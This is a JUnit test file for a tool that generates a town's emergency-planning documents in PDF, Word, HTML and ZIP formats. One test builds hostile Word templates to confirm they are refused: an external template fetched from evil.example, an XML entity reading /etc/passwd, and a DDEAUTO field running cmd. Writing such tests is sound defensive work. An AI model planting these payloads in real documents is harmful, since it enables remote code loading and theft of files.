@@ -1,0 +1,505 @@
+package org.ratswerk.integration;
+
+import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertFalse;
+import static org.junit.jupiter.api.Assertions.assertNotNull;
+import static org.junit.jupiter.api.Assertions.assertThrows;
+import static org.junit.jupiter.api.Assertions.assertTrue;
+
+import java.io.ByteArrayInputStream;
+import java.io.ByteArrayOutputStream;
+import java.io.IOException;
+import java.io.PrintStream;
+import java.math.BigInteger;
+import java.nio.charset.StandardCharsets;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.util.ArrayList;
+import java.util.HashMap;
+import java.util.HashSet;
+import java.util.List;
+import java.util.Locale;
+import java.util.Map;
+import java.util.Set;
+import java.util.TreeMap;
+import java.util.zip.ZipEntry;
+import java.util.zip.ZipFile;
+import java.util.zip.ZipInputStream;
+import java.util.zip.ZipOutputStream;
+
+import org.apache.pdfbox.Loader;
+import org.apache.pdfbox.contentstream.operator.Operator;
+import org.apache.pdfbox.cos.COSBase;
+import org.apache.pdfbox.cos.COSDictionary;
+import org.apache.pdfbox.cos.COSInteger;
+import org.apache.pdfbox.cos.COSName;
+import org.apache.pdfbox.pdfparser.PDFStreamParser;
+import org.apache.pdfbox.pdmodel.PDDocument;
+import org.apache.pdfbox.pdmodel.PDPage;
+import org.apache.pdfbox.pdmodel.documentinterchange.logicalstructure.PDMarkedContentReference;
+import org.apache.pdfbox.pdmodel.documentinterchange.logicalstructure.PDStructureElement;
+import org.apache.pdfbox.pdmodel.documentinterchange.logicalstructure.PDStructureNode;
+import org.apache.pdfbox.pdmodel.encryption.InvalidPasswordException;
+import org.apache.pdfbox.text.PDFTextStripper;
+import org.apache.poi.wp.usermodel.HeaderFooterType;
+import org.apache.poi.xwpf.usermodel.XWPFDocument;
+import org.apache.poi.xwpf.usermodel.XWPFStyle;
+import org.junit.jupiter.api.AfterAll;
+import org.junit.jupiter.api.BeforeAll;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.io.TempDir;
+import org.openxmlformats.schemas.wordprocessingml.x2006.main.CTStyle;
+import org.openxmlformats.schemas.wordprocessingml.x2006.main.STPageOrientation;
+import org.openxmlformats.schemas.wordprocessingml.x2006.main.STStyleType;
+import org.ratswerk.core.AdministrationFolder;
+import org.ratswerk.core.AdministrationModel;
+import org.ratswerk.core.Progress;
+import org.ratswerk.core.Report;
+import org.ratswerk.core.ReportOptions;
+import org.ratswerk.core.cli.CommandLine;
+import org.ratswerk.core.edit.Editing;
+import org.ratswerk.model.EmergencyPlan;
+import org.ratswerk.model.ModelFactory;
+import org.ratswerk.model.Person;
+import org.ratswerk.model.PlanKind;
+import org.ratswerk.model.persistence.FaultException;
+import org.ratswerk.sample.MusterstadtSample;
+
+/** Documents of emergency planning of the sample administration, in every format. */
+class PlanDocumentsTest {
+    private static final List<String> DOCUMENTS = List.of("alarm-card", "concept", "contacts", "continuity-plans",
+            "crisis-team", "emergency-folder", "manual", "plans", "recovery-plans");
+    private static final BigInteger MARGIN = BigInteger.valueOf(1701);
+    private static final Locale BEFORE = Locale.getDefault();
+    @TempDir
+    private static Path folder;
+    private static AdministrationFolder town;
+    private static final Map<String, byte[]> MADE = new HashMap<>();
+
+    @BeforeAll
+    static void makeSample() throws FaultException {
+        Locale.setDefault(Locale.GERMANY);
+        new MusterstadtSample().create(folder.resolve("town"), Contributions.REGISTRY, Progress.NONE);
+        town = AdministrationFolder.open(folder.resolve("town"), Progress.NONE);
+    }
+
+    @AfterAll
+    static void speakAsBefore() {
+        Locale.setDefault(BEFORE);
+    }
+
+    private static byte[] write(AdministrationModel model, String id, String format, ReportOptions options)
+            throws FaultException, IOException {
+        Report report = Contributions.REGISTRY.reports().stream().filter(each -> each.id().equals(id)).findFirst()
+                .orElseThrow();
+        var out = new ByteArrayOutputStream();
+        report.write(model, format, options, out, Progress.NONE);
+        return out.toByteArray();
+    }
+
+    /** A document of the sample as it is, made once. */
+    private static byte[] sample(String id, String format) throws FaultException, IOException {
+        String key = id + "." + format;
+        if (!MADE.containsKey(key)) {
+            MADE.put(key, write(town.model(), id, format, ReportOptions.NONE));
+        }
+        return MADE.get(key);
+    }
+
+    private static String pdfText(byte[] file) throws IOException {
+        try (var pdf = Loader.loadPDF(file)) {
+            return new PDFTextStripper().getText(pdf).replaceAll("\\s+", " ");
+        }
+    }
+
+    private static Map<String, String> unpacked(byte[] file) throws IOException {
+        var parts = new TreeMap<String, String>();
+        Path packed = Files.write(folder.resolve("packed.zip"), file);
+        try (var zip = new ZipFile(packed.toFile())) {
+            for (ZipEntry entry : java.util.Collections.list(zip.entries())) {
+                try (var in = zip.getInputStream(entry)) {
+                    parts.put(entry.getName(), new String(in.readAllBytes(), StandardCharsets.UTF_8));
+                }
+            }
+        }
+        return parts;
+    }
+
+    @Test
+    void everyPageSaysHowConfidentialWhichVersionAndWhichPageItIs() throws FaultException, IOException {
+        try (var pdf = Loader.loadPDF(sample("manual", "pdf"))) {
+            int pages = pdf.getNumberOfPages();
+            for (int i = 1; i <= pages; i++) {
+                var stripper = new PDFTextStripper();
+                stripper.setStartPage(i);
+                stripper.setEndPage(i);
+                String text = stripper.getText(pdf);
+                assertTrue(text.contains("VS-NfD"), "page " + i);
+                assertTrue(text.contains("Version 0.1 (Entwurf)"), "page " + i);
+                assertTrue(text.contains("Seite " + i + " von " + pages), "page " + i);
+            }
+            assertNotNull(pdf.getDocumentCatalog().getDocumentOutline());
+        }
+    }
+
+    @Test
+    void manualFollowsItsChaptersAndShowsWhoIsCalled() throws FaultException, IOException {
+        String text = pdfText(sample("manual", "pdf"));
+        for (String chapter : List.of("1 Einleitung", "2 Sofortmaßnahmen", "3 Alarmierung", "4 Stabsarbeit",
+                "5 Geschäftsfortführung", "6 Wiederanlauf", "9.4 Kontakte")) {
+            assertTrue(text.contains(chapter), chapter);
+        }
+        assertTrue(text.contains("Claudia Möller"));
+        assertTrue(text.contains("05999 12-1022"));
+        assertFalse(text.contains("ref:"), "references are resolved");
+    }
+
+    @Test
+    void tablesRepeatTheirHeadAndTearNoRowInWord() throws FaultException, IOException {
+        try (var word = new XWPFDocument(new ByteArrayInputStream(sample("manual", "docx")))) {
+            var headed = word.getTables().stream().filter(table -> table.getRow(0).isRepeatHeader()).toList();
+            assertTrue(headed.size() > 10, "tables with heads: " + headed.size());
+            headed.forEach(table -> table.getRows().stream().skip(1).forEach(row -> assertTrue(row.isCantSplitRow())));
+        }
+    }
+
+    @Test
+    void changedPhoneAndPersonShowInAllDocumentsThatNameThem() throws FaultException, IOException {
+        Path copy = folder.resolve("changed");
+        new MusterstadtSample().create(copy, Contributions.REGISTRY, Progress.NONE);
+        var changed = AdministrationFolder.open(copy, Progress.NONE);
+        Person person = changed.model().administration().getPersons().stream()
+                .filter(each -> each.getName().equals("Claudia Möller")).findFirst().orElseThrow();
+        new Editing(changed).run("change", () -> {
+            person.setName("Frieda Beispiel");
+            person.setPhone("05999 12-7777");
+        });
+        for (String id : List.of("manual", "contacts", "crisis-team", "alarm-card")) {
+            String before = pdfText(sample(id, "pdf"));
+            String after = pdfText(write(changed.model(), id, "pdf", ReportOptions.NONE));
+            assertTrue(before.contains("Claudia Möller"), id);
+            assertFalse(after.contains("Claudia Möller"), id);
+            assertTrue(after.contains("Frieda Beispiel"), id);
+            assertTrue(after.contains("05999 12-7777"), id);
+        }
+    }
+
+    @Test
+    void redactedEditionsHoldNoPrivateNumberInAnyFormat() throws FaultException, IOException {
+        List<String> numbers = town.model().administration().getPersons().stream().map(Person::getPrivatePhone)
+                .filter(number -> number != null && !number.isBlank()).toList();
+        assertTrue(numbers.stream().anyMatch(pdfText(sample("manual", "pdf"))::contains), "the whole edition has some");
+        for (String id : List.of("manual", "contacts", "crisis-team", "emergency-folder", "plans")) {
+            for (String format : List.of("pdf", "docx", "html", "xlsx", "zip")) {
+                byte[] file = sample(id + "-redacted", format);
+                String text = switch (format) {
+                case "pdf" -> pdfText(file);
+                case "html" -> new String(file, StandardCharsets.UTF_8);
+                default -> String.join(" ", unpacked(file).values());
+                };
+                for (String number : numbers) {
+                    assertFalse(text.contains(number), id + "." + format + " " + number);
+                }
+            }
+        }
+        assertTrue(pdfText(sample("manual-redacted", "pdf")).contains("redigierte Ausgabe"));
+        assertTrue(pdfText(sample("concept-redacted", "pdf")).contains("wie die Verwaltung geschützt ist"));
+    }
+
+    // --- PDF for readers and archives
+
+    @Test
+    void pdfIsTaggedThroughout() throws FaultException, IOException {
+        for (String id : DOCUMENTS) {
+            try (var pdf = Loader.loadPDF(sample(id, "pdf"))) {
+                checkCatalogue(id, pdf);
+                var marked = new HashMap<PDPage, Set<Integer>>();
+                for (PDPage page : pdf.getPages()) {
+                    marked.put(page, contents(id, page));
+                    page.getResources().getFontNames().forEach(name -> {
+                        try {
+                            assertTrue(page.getResources().getFont(name).isEmbedded(), id + " " + name);
+                        } catch (IOException e) {
+                            throw new AssertionError(e);
+                        }
+                    });
+                }
+                var referred = new HashMap<COSDictionary, Set<Integer>>();
+                var headings = new ArrayList<Integer>();
+                walk(id, pdf.getDocumentCatalog().getStructureTreeRoot(), referred, headings);
+                assertEquals(1, headings.getFirst(), id);
+                for (int i = 1; i < headings.size(); i++) {
+                    assertTrue(headings.get(i) <= headings.get(i - 1) + 1, id + ": heading " + headings.subList(0, i + 1));
+                }
+                marked.forEach((page, numbers) -> assertEquals(numbers,
+                        referred.getOrDefault(page.getCOSObject(), Set.of()), id + ": what is marked is in the tree"));
+            }
+        }
+    }
+
+    private static void checkCatalogue(String id, PDDocument pdf) throws IOException {
+        var catalogue = pdf.getDocumentCatalog();
+        assertEquals("de-DE", catalogue.getLanguage(), id);
+        assertTrue(catalogue.getMarkInfo().isMarked(), id);
+        assertTrue(catalogue.getViewerPreferences().displayDocTitle(), id);
+        assertFalse(pdf.getDocumentInformation().getTitle().isBlank(), id);
+        assertEquals(1, catalogue.getOutputIntents().size(), id);
+        String metadata = new String(catalogue.getMetadata().toByteArray(), StandardCharsets.UTF_8);
+        assertTrue(metadata.contains("<pdfuaid:part>1</pdfuaid:part>"), id);
+        assertTrue(metadata.contains("<pdfaid:part>2</pdfaid:part>"), id);
+        assertTrue(metadata.contains(pdf.getDocumentInformation().getTitle()), id);
+    }
+
+    /** Numbers of the marked contents of a page; fails where something is drawn or written outside of any. */
+    private static Set<Integer> contents(String id, PDPage page) throws IOException {
+        var numbers = new HashSet<Integer>();
+        int depth = 0;
+        var operands = new ArrayList<Object>();
+        var parser = new PDFStreamParser(page);
+        for (Object token = parser.parseNextToken(); token != null; token = parser.parseNextToken()) {
+            if (!(token instanceof Operator operator)) {
+                operands.add(token);
+                continue;
+            }
+            switch (operator.getName()) {
+            case "BMC" -> depth++;
+            case "BDC" -> {
+                depth++;
+                COSBase properties = operands.get(1) instanceof COSName name
+                        ? page.getResources().getProperties(name).getCOSObject() : (COSBase) operands.get(1);
+                COSBase number = ((COSDictionary) properties).getDictionaryObject(COSName.MCID);
+                if (number instanceof COSInteger whole) {
+                    assertTrue(numbers.add(whole.intValue()), id + ": numbers are unique");
+                }
+            }
+            case "EMC" -> depth--;
+            case "Tj", "TJ", "'", "\"", "S", "s", "f", "F", "f*", "B", "B*", "Do", "sh" ->
+                assertTrue(depth > 0, id + ": " + operator.getName() + " is outside of marked content");
+            default -> {
+                // shows nothing
+            }
+            }
+            operands.clear();
+        }
+        assertEquals(0, depth, id);
+        return numbers;
+    }
+
+    private static void walk(String id, PDStructureNode node, Map<COSDictionary, Set<Integer>> referred,
+            List<Integer> headings) {
+        for (Object kid : node.getKids()) {
+            if (kid instanceof PDStructureElement element) {
+                String type = element.getStructureType();
+                if (type.matches("H[1-6]")) {
+                    headings.add(Integer.parseInt(type.substring(1)));
+                }
+                if (type.equals("Figure")) {
+                    assertFalse(element.getAlternateDescription().isBlank(), id);
+                }
+                if (type.equals("TH")) {
+                    assertTrue(element.getAttributes().size() > 0, id);
+                }
+                walk(id, element, referred, headings);
+            } else if (kid instanceof PDMarkedContentReference reference) {
+                referred.computeIfAbsent(reference.getPage().getCOSObject(), key -> new HashSet<>())
+                        .add(reference.getMCID());
+            } else if (kid instanceof Integer number) {
+                referred.computeIfAbsent(((PDStructureElement) node).getPage().getCOSObject(), key -> new HashSet<>())
+                        .add(number);
+            }
+        }
+    }
+
+    // --- the command line
+
+    private static int run(ByteArrayOutputStream err, String... arguments) {
+        return new CommandLine(Contributions.REGISTRY,
+                new PrintStream(new ByteArrayOutputStream(), true, StandardCharsets.UTF_8),
+                new PrintStream(err, true, StandardCharsets.UTF_8), folder).run(List.of(arguments));
+    }
+
+    @Test
+    void passwordFromAFileOpensTheEncryptedManual() throws IOException {
+        Files.writeString(folder.resolve("password.txt"), "Rathaus-1815\n");
+        var err = new ByteArrayOutputStream();
+        assertEquals(0, run(err, "report", "manual", "town", "-o", "secret.pdf", "--password-file", "password.txt"),
+                err.toString(StandardCharsets.UTF_8));
+        byte[] file = Files.readAllBytes(folder.resolve("secret.pdf"));
+        assertThrows(InvalidPasswordException.class, () -> Loader.loadPDF(file).close());
+        try (var pdf = Loader.loadPDF(file, "Rathaus-1815")) {
+            assertEquals(256, pdf.getEncryption().getLength());
+            assertEquals(5, pdf.getEncryption().getVersion(), "AES with 256 bits (ISO 32000-2, table 20)");
+            assertTrue(new PDFTextStripper().getText(pdf).contains("Notfallhandbuch"));
+        }
+    }
+
+    @Test
+    void shortPasswordAndOtherFormatsAreRefused() throws IOException {
+        Files.writeString(folder.resolve("short.txt"), "abc");
+        Files.writeString(folder.resolve("long.txt"), "abcdefgh");
+        var err = new ByteArrayOutputStream();
+        assertFalse(run(err, "report", "manual", "town", "-o", "x.pdf", "--password-file", "short.txt") == 0);
+        assertTrue(err.toString(StandardCharsets.UTF_8).contains("mindestens 8 Zeichen"));
+        err.reset();
+        assertFalse(run(err, "report", "manual", "town", "-o", "x.docx", "--password-file", "long.txt") == 0);
+        assertTrue(err.toString(StandardCharsets.UTF_8).contains("Formate mit Kennwort: pdf"));
+    }
+
+    @Test
+    void singlePlanIsADocumentOfItsOwn() throws FaultException, IOException {
+        EmergencyPlan plan = town.model().plans().stream().filter(each -> each.getKind() == PlanKind.RECOVERY_PLAN)
+                .findFirst().orElseThrow();
+        var options = new ReportOptions(List.of(plan.getSubject().getId()), null, null);
+        String text = pdfText(write(town.model(), "plans", "pdf", options));
+        assertTrue(text.contains(plan.getName()));
+        town.model().plans().stream().filter(each -> each != plan)
+                .forEach(each -> assertFalse(text.contains(each.getName()), each.getName()));
+        var wrong = new ReportOptions(List.of("nonsense"), null, null);
+        var fault = assertThrows(FaultException.class, () -> write(town.model(), "plans", "pdf", wrong));
+        assertTrue(fault.getMessage().contains("nonsense"));
+    }
+
+    // --- template
+
+    private static byte[] template() throws IOException {
+        try (var word = new XWPFDocument(); var out = new ByteArrayOutputStream()) {
+            CTStyle style = CTStyle.Factory.newInstance();
+            style.setStyleId("berschrift1");
+            style.addNewName().setVal("heading 1");
+            style.setType(STStyleType.PARAGRAPH);
+            style.addNewRPr().addNewRFonts().setAscii("Corporate Sans");
+            word.createStyles().addStyle(new XWPFStyle(style));
+            word.createHeader(HeaderFooterType.DEFAULT).createParagraph().createRun().setText("Wappen der Stadt");
+            word.createParagraph().createRun().setText("Hier steht Ihr Text");
+            var size = word.getDocument().getBody().getSectPr().addNewPgSz();
+            size.setW(BigInteger.valueOf(11906));
+            size.setH(BigInteger.valueOf(16838));
+            var margin = word.getDocument().getBody().getSectPr().addNewPgMar();
+            margin.setLeft(MARGIN);
+            margin.setRight(MARGIN);
+            margin.setTop(MARGIN);
+            margin.setBottom(MARGIN);
+            word.write(out);
+            return out.toByteArray();
+        }
+    }
+
+    /** The template with one part more, or another one. */
+    private static Path with(String name, String part, String content) throws IOException {
+        Path file = folder.resolve(name);
+        try (var zip = new ZipOutputStream(Files.newOutputStream(file));
+                var from = new ZipInputStream(new ByteArrayInputStream(template()))) {
+            for (ZipEntry entry = from.getNextEntry(); entry != null; entry = from.getNextEntry()) {
+                if (!entry.getName().equals(part)) {
+                    zip.putNextEntry(new ZipEntry(entry.getName()));
+                    from.transferTo(zip);
+                }
+            }
+            zip.putNextEntry(new ZipEntry(part));
+            zip.write(content.getBytes(StandardCharsets.UTF_8));
+        }
+        return file;
+    }
+
+    @Test
+    void templateGivesStylesHeaderMarginsAndDirection() throws FaultException, IOException {
+        Path file = folder.resolve("template.docx");
+        Files.write(file, template());
+        byte[] made = write(town.model(), "crisis-team", "docx", new ReportOptions(List.of(), file, null));
+        try (var word = new XWPFDocument(new ByteArrayInputStream(made))) {
+            assertTrue(word.getParagraphs().stream().anyMatch(each -> "berschrift1".equals(each.getStyle())));
+            String header = word.getHeaderList().getFirst().getText();
+            assertTrue(header.contains("Wappen der Stadt"));
+            assertTrue(header.contains("VS-NfD"), header);
+            assertTrue(word.getParagraphs().stream().noneMatch(each -> each.getText().contains("Hier steht Ihr Text")));
+            var last = word.getDocument().getBody().getSectPr();
+            assertEquals(MARGIN, last.getPgMar().getLeft());
+            assertFalse(word.getDocument().xmlText().contains("Arial"));
+        }
+        byte[] across = write(town.model(), "bia", "docx", new ReportOptions(List.of(), file, null));
+        try (var word = new XWPFDocument(new ByteArrayInputStream(across))) {
+            var sections = word.getParagraphs().stream()
+                    .filter(each -> each.getCTPPr() != null && each.getCTPPr().isSetSectPr())
+                    .map(each -> each.getCTPPr().getSectPr()).toList();
+            assertTrue(sections.stream().anyMatch(each -> each.getPgSz().getOrient() == STPageOrientation.LANDSCAPE));
+        }
+    }
+
+    private static String refused(Path template) {
+        var options = new ReportOptions(List.of(), template, null);
+        return assertThrows(FaultException.class, () -> write(town.model(), "alarm-card", "docx", options)).getMessage();
+    }
+
+    @Test
+    void brokenAndHostileTemplatesAreRefusedWithTheRemedy() throws IOException {
+        Path text = folder.resolve("text.docx");
+        Files.writeString(text, "This is no Word file");
+        assertTrue(refused(text).contains("keine Word-Datei"), refused(text));
+        Path torn = folder.resolve("torn.docx");
+        byte[] whole = template();
+        Files.write(torn, java.util.Arrays.copyOf(whole, whole.length / 2));
+        assertTrue(refused(torn).contains("torn.docx"), refused(torn));
+        assertTrue(refused(folder.resolve("absent.docx")).contains("gibt es nicht"));
+        assertTrue(refused(with("macro.docx", "word/vbaProject.bin", "x")).contains("Makros"));
+        assertTrue(refused(with("object.docx", "word/embeddings/a.bin", "x")).contains("eingebettetes Objekt"));
+        String relations = "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
+                + "<Relationship Id=\"r1\" TargetMode=\"External\" Target=\"http://evil.example/t.dotm\" Type=\"http://"
+                + "schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\"/></Relationships>";
+        assertTrue(refused(with("external.docx", "word/_rels/settings.xml.rels", relations))
+                .contains("http://evil.example/t.dotm"));
+        String entity = "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>";
+        assertTrue(refused(with("entity.docx", "word/_rels/settings.xml.rels", entity)).contains("beschädigt"));
+        String field = "<w:ftr xmlns:w=\"w\"><w:instrText>DDE</w:instrText><w:instrText>AUTO c:\\\\cmd</w:instrText></w:ftr>";
+        assertTrue(refused(with("field.docx", "word/footer9.xml", field)).contains("DDEAUTO"));
+    }
+
+    // --- USB stick
+
+    @Test
+    void folderForAStickIsCompleteAndAsksNobody() throws FaultException, IOException {
+        Map<String, String> files = unpacked(sample("emergency-folder", "zip"));
+        String start = files.get("index.html");
+        for (EmergencyPlan plan : town.model().plans()) {
+            assertEquals(plan.getKind() != PlanKind.PREPAREDNESS_CONCEPT, start.contains(">" + plan.getName() + "</a>"),
+                    plan.getName());
+        }
+        assertTrue(start.contains("05999 12-1022"), "the search knows the words of the pages");
+        var links = java.util.regex.Pattern.compile("(?:href|src)=\"([^\"#]*)(?:#[^\"]*)?\"");
+        files.forEach((name, page) -> {
+            var link = links.matcher(page);
+            while (link.find()) {
+                String address = link.group(1);
+                assertTrue(address.isEmpty() || address.startsWith("data:") || address.startsWith("mailto:")
+                        || files.containsKey(address), name + ": " + address);
+            }
+            assertTrue(page.contains("default-src 'none'"), name);
+        });
+    }
+
+    @Test
+    void twoHundredPlansBecomeOneDocument() throws FaultException, IOException {
+        Path copy = folder.resolve("large");
+        new MusterstadtSample().create(copy, Contributions.REGISTRY, Progress.NONE);
+        var large = AdministrationFolder.open(copy, Progress.NONE);
+        EmergencyPlan one = large.model().plans().stream().filter(each -> each.getKind() == PlanKind.RECOVERY_PLAN)
+                .findFirst().orElseThrow();
+        for (int i = large.model().plans().size(); i < 200; i++) {
+            EmergencyPlan plan = org.eclipse.emf.ecore.util.EcoreUtil.copy(one);
+            plan.setId("plan" + i);
+            plan.setName("Plan " + i);
+            plan.getSections().add(ModelFactory.eINSTANCE.createPlanSection());
+            large.model().plans().add(plan);
+        }
+        for (String format : List.of("pdf", "docx", "zip")) {
+            long begin = System.nanoTime();
+            byte[] file = write(large.model(), "plans", format, ReportOptions.NONE);
+            System.out.println("198 plans as " + format + ": " + (System.nanoTime() - begin) / 1_000_000 + " ms");
+            if (format.equals("pdf")) {
+                try (var pdf = Loader.loadPDF(file)) {
+                    System.out.println(pdf.getNumberOfPages() + " pages");
+                    assertTrue(pdf.getNumberOfPages() >= 198);
+                }
+            }
+        }
+    }
+}
